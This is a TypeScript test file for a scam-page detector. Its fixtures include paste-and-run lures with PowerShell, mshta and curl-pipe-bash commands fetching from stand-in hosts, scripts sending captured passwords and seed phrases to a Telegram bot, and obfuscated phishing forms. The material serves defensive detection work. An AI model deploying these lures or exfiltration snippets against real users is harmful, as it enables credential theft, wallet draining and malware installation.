import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { judgeSite, scoreTrust, TRAPS, type TrapName } from '@vedette/web/site';
import { evidenceOf, type Shape } from './evidence.ts';

const page = (title: string, body: string, more: Partial<Shape> = {}): Shape => ({ html: `<title>${title}</title><body>${body}`, ...more });
const script = (code: string): string => `<script>${code}</script>`;
const PASSWORD = '<form action="in.php" method="post"><input name="user"><input type="password" name="pass"></form>';
const OF_SCRIPT = PASSWORD.replace(' action="in.php"', '');
const PHRASE = '<h2>Enter your 12-word recovery phrase</h2><form><textarea name="phrase"></textarea><button>Go on</button></form>';
const PRESS = '<p>Press the Windows key + R, press Ctrl + V, and press Enter.</p>';
const COPIES = (what: string): string => script(`button.onclick = () => navigator.clipboard.writeText(${what})`);
const ALARM =
  '<h1>Your computer has been locked</h1><p>Trojan spyware detected. Do not restart your computer. Call Microsoft support: +1-855-555-0148</p>';
const HOLDS = script('onbeforeunload = () => ""; document.documentElement.requestFullscreen(); document.getElementById("alarm").play()');
const BOT = 'fetch("https://api.telegram.org/bot123:abc/sendMessage?text=" + form.pass.value)';
const PROGRAM = `"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"`;

const CASES: Record<TrapName, { finds: [what: string, Shape, evidence: RegExp][]; misses: [what: string, Shape][] }> = {
  paste_and_run: {
    finds: [
      ['a proof of being human', page('Verify you are human', `${PRESS}${COPIES('text')}`), /as a proof \("Verify you/],
      [
        'a command that is not shown',
        page('Your document', `${PRESS}${COPIES(`'powershell -w hidden -c iex'`)}`),
        /does not show \("powershell -w/,
      ],
      [
        'in a handler',
        page('CAPTCHA', `${PRESS}<button onclick="navigator.clipboard.writeText('mshta https://a.test/x')">I am no robot</button>`),
        /mshta/,
      ],
      [
        'of a Mac',
        page('Are you a robot?', `<p>Open Terminal, paste and press Return.</p>${COPIES(`'curl -fsSL https://a.test/x | bash'`)}`),
        /curl/,
      ],
    ],
    misses: [
      [
        'a manual',
        page(
          'Install on Windows',
          `<p>Press Windows + R, type powershell, paste this: <code>powershell -c "irm a.test/i.ps1 | iex"</code></p>${COPIES('code.innerText')}`,
        ),
      ],
      [
        'a manual with its command in a script',
        page(
          'Install',
          `<p>Open a terminal and paste: <code>curl -fsSL https://a.test/i</code></p>${COPIES(`'curl -fsSL https://a.test/i'`)}`,
        ),
      ],
      [
        'an article about it',
        page(
          'How ClickFix works',
          `<p>The page says: verify you are human, press Windows + R and Ctrl + V.</p>${'<p>It has been seen since 2024.</p>'.repeat(150)}${COPIES('link')}`,
        ),
      ],
      ['a captcha', page('Are you a robot?', '<p>Tick the box.</p>')],
      [
        'a manual with a form that a captcha guards',
        page(
          'Install the robot',
          `<p>Open a terminal, paste this and read its human-readable report:</p><code>pip install robot</code>
          <p>Protected by reCAPTCHA and Cloudflare.</p>${COPIES('code.innerText')}`,
        ),
      ],
      [
        'a manual for a terminal behind a question',
        page('Install', `<p>Verify you are human, open a terminal, and paste: <code>pip install a</code></p>${COPIES('code.innerText')}`),
      ],
      [
        'a manual for Windows of a robot',
        page(
          'Set up your robot',
          `${PRESS}<code>winget install robot</code><p>Protected by Cloudflare and reCAPTCHA</p>${COPIES('c.innerText')}`,
        ),
      ],
    ],
  },
  smuggled_program: {
    finds: [
      [
        'saved by a click of its own',
        page('Invoice', script(`const b = new Blob([atob(${PROGRAM})]); a.href = URL.createObjectURL(b); a.click()`)),
        /program/,
      ],
    ],
    misses: [
      ['a text about such programs', page('Base64', `<p>A program begins with ${PROGRAM}.</p>`)],
      [
        'a program that another script does not save',
        page('Chart', `${script(`const sample = ${PROGRAM}`)}${script('a.href = URL.createObjectURL(new Blob([svg])); a.click()')}`),
      ],
      [
        'a comparison of addresses',
        page('Disassembler', script(`const b = new Blob([atob(${PROGRAM})]); if (location.href == '/x') show(URL.createObjectURL(b))`)),
      ],
      ['a chart that is saved', page('Chart', script('a.href = URL.createObjectURL(new Blob([svg])); a.click()'))],
    ],
  },
  fake_alert: {
    finds: [
      [
        'with a full screen',
        page('Security warning', `${ALARM}${HOLDS}`),
        /"Your computer has been locked", has the number \+1-855-555-0148, and fills the screen/,
      ],
      [
        'with sound, and without a menu',
        page('Alert', `${ALARM}<audio autoplay src="a.mp3"></audio><body oncontextmenu="return false">`),
        /takes the menu away, sounds an alarm/,
      ],
      [
        'without keys',
        page('Alert', `${ALARM}<body onbeforeunload="return 'no'" onkeydown="return false">`),
        /will not be left, takes the keys away/,
      ],
    ],
    misses: [
      ['an article about it', page('Tech support scams', `<p>The page says:</p>${ALARM}`)],
      [
        'a film without its sound',
        page('We mend computers', `${ALARM}<body oncontextmenu="return false"><video autoplay muted src="a.mp4"></video>`),
      ],
      ['a page that will not be copied', page('We mend computers', `${ALARM}<body oncontextmenu="return false" onkeydown="return false">`)],
      [
        'a menu of its own, and sound',
        page('We mend computers', `${ALARM}<audio autoplay src="a.mp3"></audio><body oncontextmenu="show(menu)">`),
      ],
      [
        'keys that do something',
        page(
          'We mend computers',
          `${ALARM}<body oncontextmenu="return false">${script(`addEventListener('keydown', (e) => e.key === 'Escape' && close())`)}`,
        ),
      ],
      ['a workshop', page('We mend computers', '<p>Is your computer infected? Call our support: +1-855-555-0148</p>')],
      [
        'a game',
        page(
          'Space',
          `<p>Do not close this window. Call +1-855-555-0148 for support.</p>${script('c.requestFullscreen(); c.onkeydown = move')}`,
        ),
      ],
    ],
  },
  wallet_phrase: {
    finds: [
      ['in the name of a wallet', page('MetaMask: restore', PHRASE), /in the name of metamask/],
      [
        'sent to another site',
        page('Restore', PHRASE.replace('<form>', '<form action="https://collect.example/send.php" method="post">')),
        /sends it to https:\/\/collect\.example\/send\.php/,
      ],
      [
        'in a field without a name',
        page('MetaMask', '<p>Enter your seed phrase</p><form><textarea placeholder="Type here"></textarea></form>'),
        /in the name of metamask/,
      ],
      [
        'sent to a chat',
        page('Restore', `${PHRASE}${script('fetch("https://api.telegram.org/bot1:a/sendMessage?text=" + phrase)')}`),
        /a bot of Telegram/,
      ],
      [
        'of any of several',
        page('Wallets', `<p>Validate your wallet: MetaMask, Ledger, Trezor</p>${PHRASE}`),
        /of any of metamask, ledger, trezor/,
      ],
      [
        'word by word',
        page(
          'Ledger Live',
          `<p>Your recovery phrase</p><form>${'<input name="x">'.repeat(2)}${Array.from({ length: 12 }, (_, i) => `<input name="word${i + 1}">`).join('')}</form>`,
        ),
        /ledger/,
      ],
    ],
    misses: [
      ['a tool that works in the page', page('Mnemonic code converter', PHRASE)],
      ['a warning', page('MetaMask: stay safe', '<p>Never tell anyone your recovery phrase.</p><form><input name="email"></form>')],
      ['the wallet itself', page('MetaMask: restore', PHRASE, { host: 'metamask.io', more: { domain: 'metamask.io' } })],
      [
        'comments on an article about wallets',
        page(
          'MetaMask: stay safe',
          `<p>Never tell anyone your seed phrase.</p><form action="https://comments.example/post.php"><textarea id="comment" name="comment"></textarea>
          <input name="author"><input name="email"></form>`,
        ),
      ],
      [
        'a message about a wallet',
        page('MetaMask: help', '<p>Keep your 12 words to yourself.</p><form><textarea name="message"></textarea></form>'),
      ],
      [
        'a text beside other fields',
        page(
          'Ledger: review',
          '<p>Write your recovery phrase on paper.</p><form><textarea name="text"></textarea><input name="from"></form>',
        ),
      ],
      ['a form of its own server', page('Restore', PHRASE.replace('<form>', '<form action="send.php" method="post">'))],
      [
        'the secret word of a bank',
        page('Phantom Bank', '<form action="https://login.example/in"><input name="x" placeholder="Secret word"></form>'),
      ],
      ['a form for words of another kind', page('Quiz', '<form action="quiz.php"><textarea name="answer"></textarea></form>')],
    ],
  },
  secret_sink: {
    finds: [
      ['into a chat', page('Staff', `${OF_SCRIPT}${script(BOT)}`), /a password, and it goes to a bot of Telegram/],
      [
        'to an address that is hidden',
        page('Staff', `${OF_SCRIPT}${script('send(atob("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDE="), pass)')}`),
        /Telegram/,
      ],
      ['by a service for forms', page('Staff', PASSWORD.replace('in.php', 'https://formspree.io/f/abc')), /a mailbox/],
      ['by mail', page('Staff', PASSWORD.replace('in.php', 'mailto:a@b.test')), /a mailbox/],
      [
        'by the token of a bot',
        page(
          'Help',
          `<form><input type="password" name="n1"></form>${script(`const T = "1234567890:AA${'x'.repeat(33)}"; send(T, pinOf(form))`)}`,
        ),
        /a bot of Telegram/,
      ],
      [
        'cookies of a session',
        page('Verify', '<form action="https://submit-form.com/a"><input name="c_user"><input name="xs"></form>'),
        /asks for a session, and it goes to a mailbox/,
      ],
    ],
    misses: [
      [
        'a message to the owner',
        page(
          'Write to us',
          `<form><input name="name"><textarea name="message"></textarea></form>${script(BOT.replace('form.pass', 'form.message'))}`,
        ),
      ],
      [
        'a form for messages beside a log-in',
        page('Staff', `${PASSWORD}${script('if (hidePassword) fetch("https://formspree.io/f/abc", message)')}`),
      ],
      [
        'a chat beside a log-in',
        page('Staff', `${OF_SCRIPT}${script('notify("https://api.telegram.org/bot1:a/sendMessage?text=visit")')}`),
      ],
      ['a log-in', page('Staff', PASSWORD)],
    ],
  },
  credential_trap: {
    finds: [
      [
        'by its title',
        page('Log in to your PayPal account', PASSWORD),
        /it calls itself paypal: Log in to your PayPal account; a form to in\.php asks for a password/,
      ],
      [
        'by its canonical URL',
        page('Hello', `<link rel="canonical" href="https://www.reddit.com/login">${PASSWORD}`),
        /it says that it is at www\.reddit\.com/,
      ],
      [
        'by its style sheets',
        page('Hello', `<link rel="stylesheet" href="https://github.githubassets.com/a.css">${PASSWORD}`),
        /those of github\.githubassets\.com/,
      ],
      [
        'in a field of text',
        page('Netflix', '<form action="a.php"><input name="usr"><input name="psw" placeholder="Password"></form>'),
        /asks for a password/,
      ],
      ['a card', page('USPS: your parcel', '<form action="a.php"><input placeholder="Card number"></form>'), /asks for a card/],
      ['a national number', page('Netflix: confirm', '<form action="a.php"><input name="ssn"></form>'), /asks for a national number/],
      [
        'in a form that a script writes',
        page('Netflix', script(`document.body.innerHTML = '<form action=\\'a.php\\'><input type=\\'password\\'></form>'`)),
        /a form to a\.php asks/,
      ],
      [
        'in a page of percent signs',
        {
          html: script(
            `document.write(unescape("${Array.from('<title>Netflix: sign in</title><form action="b.php"><input type="password"></form>', (c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))`,
          ),
        },
        /a form to b\.php asks/,
      ],
      [
        'in a page in base64',
        {
          html: script(
            `document.write(atob("${btoa('<title>Netflix: sign in</title><form action="c.php"><input type="password"></form>')}"))`,
          ),
        },
        /a form to c\.php asks/,
      ],
      ['in several words', page('Verification - Fifth Third Bank', PASSWORD), /fifththirdbank/],
      ['in letters that look like its own', page('Log in to your ΡayΡal account', PASSWORD), /paypal/],
      ['where its logo stands', page('My account', `<p>Netflix</p><p>Sign in</p>${PASSWORD}`), /netflix/],
      ['in its notice of copyright', page('Welcome', `${PASSWORD}<p>© 2020 Netflix, Inc.</p>`), /netflix/],
      [
        'by its terms and its help',
        page(
          'Welcome',
          `${PASSWORD}<a href="https://www.uber.com/legal/privacy">Privacy</a><a href="https://auth.uber.com/forgot">Forgot?</a>`,
        ),
        /its terms and its help with passwords are at auth\.uber\.com/,
      ],
      [
        'a user name, where it says no more',
        page('Instagram', '<p>Sign in</p><form action="a.php"><input name="phone"></form>'),
        /asks for a user name/,
      ],
      [
        'in an array of octets',
        {
          html: script(
            `document.write([${Array.from('<title>Netflix: sign in</title><form action="d.php"><input type="password"></form>', (c) => `"${c.charCodeAt(0).toString(16)}"`).join(',')}].map(char))`,
          ),
        },
        /a form to d\.php asks/,
      ],
      ['a name with a character that is not shown', page('Face\u200bbook', PASSWORD), /calls itself facebook: Facebook;/],
      [
        'by a threat',
        page(
          'Community',
          `<p>Someone reported your page for copyright. Your account will soon be deactivated. Log in to object.</p>${OF_SCRIPT}`,
        ),
        /it threatens to close an account \("account will soon be deactivated"\)/,
      ],
      [
        'by a program on a rented host',
        page('Followers', PASSWORD.replace('in.php', 'https://collect.rented.example/post.php')),
        /to a program of another owner, at collect\.rented\.example/,
      ],
      [
        'from a rented host by a program elsewhere',
        page('Help', PASSWORD.replace('in.php', '//dwrk.example/x.php'), { more: { isFreeHost: true } }),
        /to a program of another owner, at dwrk\.example/,
      ],
      [
        'for new firmware',
        page('Router', '<p>New firmware is available. Enter the password.</p><form action="/post"><input type="password" name="p"></form>'),
        /a network or a device \("New firmware"\)/,
      ],
      [
        'in a saved page of another site',
        page(
          'Shop for all',
          `<link rel="icon" href="data:image/png;base64,AA">${['AA', 'AB', 'AC'].map((data) => `<img src="data:image/png;base64,${data}">`).join('')}
          <link rel="canonical" href="https://www.shop-for-all.example/login">${PASSWORD}${'<p>Many goods at low prices.</p>'.repeat(100)}`,
        ),
        /it is a copy of a page of www\.shop-for-all\.example/,
      ],
      [
        'in a page without a name of a well-known site',
        page('Log in or sign up', `<link rel="canonical" href="https://www.well-known.example/login">${PASSWORD}`, {
          more: { isWellKnown: (asked) => asked === 'well-known.example' },
        }),
        /it is a copy of a page of www\.well-known\.example/,
      ],
      [
        'with nothing else to say',
        page('', `<h1>Sign in</h1><p>Use your Google Account</p>${PASSWORD.replace('in.php', '/get')}`),
        /google/,
      ],
      [
        'at its services',
        page('Sign in to Microsoft Online Services', PASSWORD.replace('in.php', '../in.php')),
        /it calls itself microsoft/,
      ],
      [
        'by its only picture',
        page('Vote', `<p>Log in to complete the poll</p><img src="https://files.example/2015/Google_2015_logo.svg">${PASSWORD}`),
        /its pictures are those of google: Google_2015_logo\.svg/,
      ],
      ['in a title over pictures', page('Crypto - Ledger', `<img src="logo.png">${PASSWORD}`), /its title begins with ledger/],
      [
        'a user name in a form that a script sends',
        page('Login - Spotify', '<p>Log in to Spotify</p><form><input name="username"></form>'),
        /asks for a user name/,
      ],
      [
        'a user name for a reward',
        page('Roblox Free Robux', '<p>Verify that you are not a robot</p><form><input placeholder="Enter username"></form>'),
        /it promises a reward of roblox: Free Robux; a form asks for a user name/,
      ],
      ['a code', page('eBay', '<p>Enter the security code</p><form action="a.php"><input name="pin"></form>'), /asks for a code/],
    ],
    misses: [
      [
        'a bank that locks after attempts',
        page('Log in', `<p>Your account will be locked after 5 failed attempts. Unauthorized use is a violation of law.</p>${PASSWORD}`),
      ],
      ['rules of a forum', page('Log in', `<p>Accounts that violate our community standards will be suspended.</p>${PASSWORD}`)],
      ['accounts without use', page('Log in', `<p>An inactive account will be deleted. Report copyright violations.</p>${PASSWORD}`)],
      ['a rule with an if', page('Register', `<p>If you violate the copyright of others, your account will be suspended.</p>${PASSWORD}`)],
      [
        'a course about phishing',
        page('Phishing: a training', `<p>They say: unusual activity. Your account will be suspended.</p>${PASSWORD}`),
      ],
      [
        'the log-in of a device with an update',
        page('Router', '<p>New firmware is available. Log in to install.</p><form action="/in"><input type="password" name="p"></form>'),
      ],
      ['a group for autism', page('Friends of the river | Spectrum', `<img src="a.png">${PASSWORD}`)],
      [
        'a café with a logo of a network',
        page('Cafe Mond - Login', `<img src="instagram-icon.svg">${PASSWORD}`, { host: 'cafe-mond.example' }),
      ],
      ['a lock that may come', page('Log in', `<p>Your account will be locked if unusual activity is detected.</p>${PASSWORD}`)],
      ['a library in Orange County', page('Staff', `<img src="orange-logo.png">${PASSWORD}`)],
      ['a tool beside a brand', page('Sign in to Instagram Scheduler', `<p>Plan posts.</p>${PASSWORD.replace('in.php', '/session')}`)],
      ['a choir', page('The village choir', PASSWORD)],
      ['the logo of another log-in', page('Vote', `<p>Or log in with</p><img src="google-logo.svg">${PASSWORD}`)],
      ['a logo of its own beside another', page('Vote', `<img src="vote.png"><img src="google-logo.svg">${PASSWORD}`)],
      [
        'a choir with a new address, and its icon in the page',
        page(
          'The village choir',
          `<link rel="icon" href="data:image/png;base64,AA"><link rel="canonical" href="https://choir-news.example/">${PASSWORD}`,
        ),
      ],
      ['a closed account', page('Forum', `<p>Your account has been locked: it violated our rules.</p>${PASSWORD}`)],
      [
        'a page for a firm whose program is at home',
        page('Choir GmbH', PASSWORD.replace('in.php', 'https://choir-gmbh.example/in.php'), { more: { isFreeHost: true } }),
      ],
      ['a program of another firm', page('The village choir', PASSWORD.replace('in.php', 'https://pay.example/in.php'))],
      [
        'the log-in of a router',
        page('Router', '<p>Firmware upgrade: log in</p><form action="/in"><input name="user"><input type="password" name="p"></form>'),
      ],
      ['an account among others', page('Choir', `<p>Sign in, or use your Google Account</p>${PASSWORD.replace('in.php', '/in')}`)],
      [
        'a fan of a game',
        page('Free Robux: tips for Roblox', '<p>Verify that you are not a robot</p><form><input placeholder="Enter username"></form>'),
      ],
      ...['i.imgur.com/a.png', 'cdn.discordapp.com/icons/1/a.png'].map((file): [string, Shape] => [
        `an icon at ${file}`,
        page('The village choir', `<link rel="icon" href="https://${file}">${PASSWORD}`),
      ]),
      ['fonts of others', page('The village choir', `<link rel="stylesheet" href="https://fonts.bunny.net/css?family=a">${PASSWORD}`)],
      [
        'a new address that is well known',
        page('The village choir', `<link rel="canonical" href="https://choir-news.example/">${PASSWORD}`, {
          more: { isWellKnown: (asked) => asked === 'choir-news.example' },
        }),
      ],
      ...['Odoo', 'Grafana', 'Mattermost', 'Bitwarden', 'Drupal'].map((program): [string, Shape] => [
        `${program} on a host of one's own`,
        page(program, PASSWORD),
      ]),
      [
        'an article beside a log-in',
        page('Why Facebook grows in China', `${PASSWORD}${'<p>It has many users there by now.</p>'.repeat(100)}`),
      ],
      ['a form that a script writes', page('The village choir', script(`box.innerHTML = '<form><input type="password"></form>'`))],
      ['a log-in by others', page('Welcome', `<p>Google sign in</p><p>Facebook login</p>${PASSWORD}`)],
      ['a device with its maker’s notice of copyright', page('Mail', `${PASSWORD}<p>© 2016 Microsoft</p>`)],
      [
        'terms of a captcha',
        page(
          'Welcome',
          `${PASSWORD}<a href="https://policies.google.com/privacy">Privacy</a><a href="https://support.google.com/help">Help</a>`,
        ),
      ],
      ['the first step of a log-in', page('The village choir: sign in', '<p>Sign in</p><form action="a.php"><input name="email"></form>')],
      ['a newsletter', page('News of Instagram and Uber', '<p>Log in or read on</p><form action="a.php"><input name="email"></form>')],
      [
        'a newsletter of a fan',
        page('Netflix', '<p>Our letter on films comes on Fridays.</p><form action="a.php"><input name="email"></form>'),
      ],
      ['a search', page('Netflix in numbers', '<form><input name="q" placeholder="Search"></form>')],
    ],
  },
  posing_page: {
    finds: [
      ['letters of mathematics', page('Met\u{1d4ea}Mask Login', '<p>Download</p>'), /writes the name of metamask in other letters: Met/],
      ['accents', page('Hello', '<h1>Tr\u00e9zor.io/start</h1>'), /writes the name of trezor in other letters: Tr/],
      [
        'an official wallet on a rented host',
        page('Trezor.io/Start® | Starting Up Your Device', '<p>Get the app</p>', { more: { isFreeHost: true } }),
        /official page of trezor, on a host of strangers/,
      ],
      [
        'a threat in the name of a brand',
        page('Facebook', '<p>You have violated copyright. Your account will be disabled.</p><a href="next.html">Appeal</a>'),
        /threatens to close an account in the name of facebook/,
      ],
    ],
    misses: [
      ['a page in Turkish', page('İnstagram ve TİKTOK', '<h1>FACEBOOK ve İNSTAGRAM</h1><p>Bizi takip edin.</p>')],
      ['the case of a word in Bengali', page('আমাদের Facebook\u09c7 খুঁজুন', '<p>Barta</p>')],
      ['the band Exodus', page('Exodus - Official Website', '<p>Thrash metal since 1979.</p>', { more: { isFreeHost: true } })],
      ['a review', page('Trezor official app: a review', '<p>We tried the wallet.</p>', { more: { isFreeHost: true } })],
      ['a guide to a wallet', page('Trezor: how to start', '<p>Buy it from the maker.</p>', { more: { isFreeHost: true } })],
      ['a dealer at home', page('Trezor® dealers', '<p>We sell it.</p>')],
      ['a warning', page('Scam: Met\u{1d4ea}Mask pages', '<p>Do not go there.</p>')],
      [
        'a name in a script of its own',
        page('Trézor Café', '<p>Open from noon.</p>', { host: 'trezor.io', more: { domain: 'trezor.io' } }),
      ],
      ['a styled name', page('\u{1d4de}\u{1d4f7}\u{1d4f5}\u{1d4f2}\u{1d4f7}\u{1d4ee} art', '<p>Pictures</p>')],
      ['an exercise', page('Facebook clone', '<p>Your account will be disabled after a violation.</p>')],
      ['a bank with an accent', page('Itaú', '<p>Agências</p>')],
    ],
  },
};

const capsOf = async (shape: Shape) => {
  const evidence = await evidenceOf(shape);
  const verdict = judgeSite(evidence);
  return { verdict, ...scoreTrust(evidence, verdict) };
};

describe.each(Object.entries(CASES) as [TrapName, (typeof CASES)[TrapName]][])('%s', (name, { finds, misses }) => {
  it.each(finds)('finds %s, says by what, and caps trust', async (_what, shape, found) => {
    const { factors, result, verdict } = await capsOf(shape);
    expect(factors.find(({ factor }) => factor === `cap_${name}`)?.detail).toMatch(found);
    expect(result).toBeLessThanOrEqual(TRAPS[name].cap);
    expect(verdict.checks.is_heuristic_pattern).toBe(true);
  });

  it.each(misses)('does not accuse %s', async (_what, shape) => {
    const { factors } = await capsOf(shape);
    expect(factors.filter(({ factor }) => factor.slice(4) in TRAPS)).toEqual([]);
  });
});

it('tells a stranger\u2019s words without characters that move others, and not at any length', async () => {
  const shape = page(`Trezor.io/Start® \u202e${'x'.repeat(900)}`, '<p>Get the app</p>', { more: { isFreeHost: true } });
  const { factors } = await capsOf(shape);
  const { detail } = factors.find(({ factor }) => factor === 'cap_posing_page')!;
  expect(detail).not.toMatch(/\p{Cf}/u);
  expect(detail.length).toBeLessThan(800);
});

it('reads octets with spaces between them in one pass', async () => {
  // Spaces that can belong to either side of a comma took 2^31 steps.
  const { verdict } = await capsOf({ html: script(`x = [${'"3c" '.repeat(31)}]`) });
  expect(verdict.traps).toEqual([]);
});

it('reads the scripts as often for a thousand forms as for one', async () => {
  const readsOf = async (forms: number): Promise<number> => {
    const evidence = await evidenceOf(page('Staff', `${OF_SCRIPT.repeat(forms)}${script('keep(passw)')}`));
    const { page: facts } = evidence.https;
    let reads = 0;
    const counted = Object.defineProperty({ ...facts }, 'inlineScripts', { get: () => ((reads += 1), facts.inlineScripts) });
    const verdict = judgeSite({ ...evidence, https: { ...evidence.https, page: counted } });
    scoreTrust(evidence, verdict);
    return reads;
  };
  expect(await readsOf(1_000)).toBe(await readsOf(1));
});

it('docs/site-trust.md has every trap with its cap, its sentence and its advice', () => {
  const docs = readFileSync(new URL('../../../docs/site-trust.md', import.meta.url), 'utf8');
  const rows = [...docs.matchAll(/^\| `(\w+)` \| (\d+) \| (.+?) \| (.+?) \| .+ \|$/gm)].map(([, name, cap, says, advice]) => [
    name,
    { cap: Number(cap), says, advice },
  ]);
  const traps = Object.entries(TRAPS).map(([name, { cap, says, advice }]) => [name, { cap, says, advice }]);
  expect(Object.fromEntries(rows)).toEqual(Object.fromEntries(traps));
});
